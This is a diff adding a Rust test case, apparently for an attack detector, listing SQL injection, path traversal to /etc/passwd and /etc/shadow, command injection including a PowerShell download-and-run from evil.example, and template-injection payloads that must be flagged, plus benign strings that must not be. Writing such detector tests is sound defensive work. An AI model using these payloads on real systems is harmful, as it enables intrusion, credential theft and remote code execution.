@@ -1379,3 +1379,29 @@ fn file_inclusion_shapes() {
         Context::Auto,
     );
 }
+
+/// Shapes from the 2026-12-06 review's hunt (its own payloads, not a public list): a form's `+`
+/// around SQL keywords, the login bypass with LIMIT, paths spelled with `/./` and `//`, Windows
+/// network paths to scripts, cmd.exe's carets, PowerShell's download-and-run; and the notes it
+/// found flagged.
+#[test]
+fn review_hunt_shapes() {
+    assert_attacks(&["1+union+select+1,2,3--+", "-1+union+all+select+null,null--", "1+order+by+5--+", "admin' or 1 limit 1#", "admin' or true limit 1-- -", "\" or 1 limit 1#"], Class::Sqli);
+    assert_attacks(&["/etc/./passwd", "/etc//passwd", "//etc//shadow", "..//..//etc//passwd", "\\\\evil.example\\share\\x.php", "\\\\evil.example@SSL\\DavWWWRoot\\x.php", "\\\\10.0.0.5\\share\\evil.dll"], Class::Traversal);
+    assert_attacks(&["& w^h^o^a^m^i", "| w^h^o^a^m^i", "; iex (iwr http://evil.example/p.ps1)", "; Start-Process calc.exe", "{{person.secret}}", "{{7*7}}", "{{settings.SECRET_KEY}}"], Class::Cmdi);
+    assert_benign(
+        &[
+            "Benchmark(SPY)",
+            "{{ticker}} daily summary",
+            "{{ }} placeholder in the email template",
+            "Client's order; id 5521 -- check fills",
+            "AAPL | id 4521 | filled",
+            "rock+and+roll",
+            "S&P+500+futures+or+options",
+            "\\\\fs01\\reports\\daily.xlsx",
+            "https://example.com//path//to",
+            "C++ developer notes",
+        ],
+        Context::Auto,
+    );
+}
